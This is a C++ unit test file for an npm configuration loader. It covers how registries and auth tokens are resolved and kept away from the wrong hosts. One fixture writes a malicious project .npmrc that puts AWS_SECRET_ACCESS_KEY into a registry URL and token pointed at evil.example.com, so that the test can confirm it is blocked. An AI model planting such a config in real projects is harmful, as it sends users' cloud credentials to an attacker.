#include "registry/npm_configuration.h"

#include "tests/unit/registry/registry_fixture.h"

namespace curupira::registry {
namespace {

class NpmConfigurationTest : public test::RegistryTest {
 protected:
  NpmConfiguration load() { return NpmConfiguration::load(tools(), diagnostics).value(); }
  /// The address, "" when none is named.
  std::string registry_for(std::string_view package) {
    const auto url = load().registry_for(package).value();
    return url ? url->to_string() : "";
  }
  /// The header that an address gets, "" for none.
  std::string header_for(std::string_view url) {
    const auto secret = load().credentials()->authorization_for(Url::parse(url).value());
    return secret ? secret->reveal() : "";
  }
};

TEST_F(NpmConfigurationTest, NothingIsNamedWhenThereIsNoFile) {
  EXPECT_EQ(registry_for("x"), "");
  EXPECT_EQ(header_for("https://npm.example.org/x"), "");
}

TEST_F(NpmConfigurationTest, TheUsersFile) {
  folder.write("user/.npmrc",
               "registry=https://npm.example.org/all\n@acme:registry=https://acme.example.org\n");
  EXPECT_EQ(registry_for("x"), "https://npm.example.org/all/") << "packages are below it";
  EXPECT_EQ(registry_for("@acme/x"), "https://acme.example.org/");
  EXPECT_EQ(registry_for("@other/x"), "https://npm.example.org/all/");
}

TEST_F(NpmConfigurationTest, TheOrderIsNpms) {
  folder.write("etc/npmrc", "registry=https://global.example.org/\n");
  have_program("node");
  EXPECT_EQ(registry_for("x"), "https://global.example.org/");
  folder.write("user/.npmrc", "registry=https://user.example.org/\n");
  EXPECT_EQ(registry_for("x"), "https://user.example.org/");
  folder.write("work/.npmrc", "registry=https://project.example.org/\n");
  EXPECT_EQ(registry_for("x"), "https://project.example.org/");
  environment.set("NPM_CONFIG_REGISTRY", "https://environment.example.org/");
  EXPECT_EQ(registry_for("x"), "https://environment.example.org/");
}

TEST_F(NpmConfigurationTest, FilesThatVariablesName) {
  folder.write("other-user", "@acme:registry=https://one.example.org/\n");
  folder.write("other-global", "registry=https://two.example.org/\n");
  environment.set("npm_config_userconfig", (folder / "other-user").string());
  environment.set("npm_config_globalconfig", (folder / "other-global").string());
  EXPECT_EQ(registry_for("@acme/x"), "https://one.example.org/");
  EXPECT_EQ(registry_for("x"), "https://two.example.org/");
}

TEST_F(NpmConfigurationTest, ScopesAndTokensInVariables) {
  environment.set("npm_config_@acme:registry", "https://acme.example.org/");
  environment.set("npm_config_//acme.example.org/:_authToken", "Secret_Token");
  EXPECT_EQ(registry_for("@acme/x"), "https://acme.example.org/");
  EXPECT_EQ(header_for("https://acme.example.org/x"), "Bearer Secret_Token");
}

TEST_F(NpmConfigurationTest, AFileThatCannotBeReadIsNoMissingFile) {
  std::filesystem::create_directories(folder / "user/.npmrc");
  EXPECT_FALSE(NpmConfiguration::load(tools(), diagnostics)) << "it may bind a scope to a private registry";
}

TEST_F(NpmConfigurationTest, ABadRegistryNamesItsFile) {
  folder.write("user/.npmrc", "registry=npm.example.org\n");
  const auto url = load().registry_for("x");
  ASSERT_FALSE(url);
  EXPECT_EQ(url.error().code(), ErrorCode::url_invalid);
  EXPECT_NE(url.error().doing().front().find(".npmrc"), std::string::npos);
}

TEST_F(NpmConfigurationTest, TokensGoToTheirHostAndPathOnly) {
  folder.write("user/.npmrc", "//npm.example.org/private/:_authToken=t1\n//npm.example.org/:_authToken=t2\n");
  EXPECT_EQ(header_for("https://npm.example.org/private/x/-/x-1.tgz"), "Bearer t1");
  EXPECT_EQ(header_for("https://npm.example.org/private"), "Bearer t1");
  EXPECT_EQ(header_for("https://npm.example.org/privateer/x"), "Bearer t2");
  EXPECT_EQ(header_for("https://npm.example.org.evil.example.com/private/x"), "");
  EXPECT_EQ(header_for("https://npm.example.org:8443/x"), "") << "another port is another server";
}

TEST_F(NpmConfigurationTest, APortIsPartOfThePlace) {
  folder.write("user/.npmrc", "//127.0.0.1:4873/:_authToken=t\n");
  EXPECT_EQ(header_for("http://127.0.0.1:4873/x"), "Bearer t");
  EXPECT_EQ(header_for("http://127.0.0.1/x"), "");
}

TEST_F(NpmConfigurationTest, NamesAndPasswords) {
  folder.write("user/.npmrc",
               "//a.example.org/:username=user\n//a.example.org/:_password=cGFzcw==\n//b.example.org/"
               ":_auth=dXNlcjpwYXNz\n");
  EXPECT_EQ(header_for("https://a.example.org/x"), "Basic dXNlcjpwYXNz");
  EXPECT_EQ(header_for("https://b.example.org/x"), "Basic dXNlcjpwYXNz");
}

TEST_F(NpmConfigurationTest, AnAddressWithPassword) {
  folder.write("user/.npmrc", "registry=https://user:pass@npm.example.org/all/\n");
  EXPECT_EQ(registry_for("x"), "https://npm.example.org/all/");
  EXPECT_EQ(header_for("https://npm.example.org/all/x"), "Basic dXNlcjpwYXNz");
  EXPECT_EQ(header_for("https://npm.example.org/x"), "");
}

TEST_F(NpmConfigurationTest, TokensAreNotSentInTheOpenByAccident) {
  folder.write("user/.npmrc", "registry=https://npm.example.org/\n//npm.example.org/:_authToken=t\n");
  EXPECT_EQ(header_for("https://npm.example.org/x"), "Bearer t");
  EXPECT_EQ(header_for("http://npm.example.org/x"), "");
}

TEST_F(NpmConfigurationTest, AnUnencryptedRegistryOfTheUserGetsItsToken) {
  folder.write("user/.npmrc",
               "registry=http://npm.example.org:4873/\n//npm.example.org:4873/:_authToken=t\n");
  EXPECT_EQ(header_for("http://npm.example.org:4873/x"), "Bearer t");
}

TEST_F(NpmConfigurationTest, VariablesInTheUsersFile) {
  environment.set("NPM_TOKEN", "from-environment");
  folder.write("user/.npmrc", "//npm.example.org/:_authToken=${NPM_TOKEN}\n");
  EXPECT_EQ(header_for("https://npm.example.org/x"), "Bearer from-environment");
}

TEST_F(NpmConfigurationTest, AnUnsetVariableIsNoToken) {
  folder.write("user/.npmrc", "//npm.example.org/:_authToken=${NPM_TOKEN}\n");
  EXPECT_EQ(header_for("https://npm.example.org/x"), "");
  EXPECT_TRUE(was_reported("names a variable that is not set"));
}

TEST_F(NpmConfigurationTest, AProjectFileReadsNoEnvironment) {
  environment.set("AWS_SECRET_ACCESS_KEY", "hunter2");
  folder.write("work/.npmrc",
               "registry=https://evil.example.com/${AWS_SECRET_ACCESS_KEY}/\n"
               "//evil.example.com/:_authToken=${AWS_SECRET_ACCESS_KEY}\n");
  EXPECT_EQ(registry_for("x"), "");
  EXPECT_EQ(header_for("https://evil.example.com/x"), "");
  EXPECT_EQ(load().project_settings().find("hunter2"), std::string::npos);
  EXPECT_TRUE(was_reported("may not read the environment"));
}

TEST_F(NpmConfigurationTest, AProjectFileRedirectsButStealsNothing) {
  folder.write("user/.npmrc", "@acme:registry=https://acme.example.org/\n//acme.example.org/:_authToken=t\n");
  folder.write("work/.npmrc", "@acme:registry=http://acme.example.org/\n");
  EXPECT_EQ(registry_for("@acme/x"), "http://acme.example.org/");
  EXPECT_EQ(header_for("http://acme.example.org/x"), "") << "not in the open";
  EXPECT_TRUE(was_reported("`@acme:registry` is taken from")) << "a redirection is said";
}

TEST_F(NpmConfigurationTest, AProjectFileBringsItsOwnToken) {
  folder.write("work/.npmrc",
               "registry=https://npm.example.org/\n//npm.example.org/:_authToken=t;o\\;ken\nfund=false\n");
  EXPECT_EQ(header_for("https://npm.example.org/x"), "Bearer t");
  EXPECT_EQ(load().project_settings(),
            "//npm.example.org/:_authToken=\"t\"\nregistry=\"https://npm.example.org/\"\n");
}

TEST_F(NpmConfigurationTest, InTheHomeFolderTheUsersFileIsNoProjectFile) {
  environment.set("HOME", (folder / "work").string());
  environment.set("TOKEN", "t");
  folder.write("work/.npmrc", "//npm.example.org/:_authToken=${TOKEN}\n");
  EXPECT_EQ(header_for("https://npm.example.org/x"), "Bearer t");
  EXPECT_EQ(load().project_settings(), "");
}

// npm/cli#7819: a malformed token is printed in the error.
TEST_F(NpmConfigurationTest, WarningsNeverShowASecret) {
  folder.write(
      "user/.npmrc",
      "//npm.example.org/:_authToken=\"hunter2\\nx\"\n_authToken=hunter2\n"
      "//a.example.org/:username=u\n//a.example.org/:_password=hunter2!\n//bad host/:_authToken=hunter2\n");
  load();
  EXPECT_EQ(diagnostics.all.size(), 4u);
  EXPECT_FALSE(was_reported("hunter2"));
}

}  // namespace
}  // namespace curupira::registry
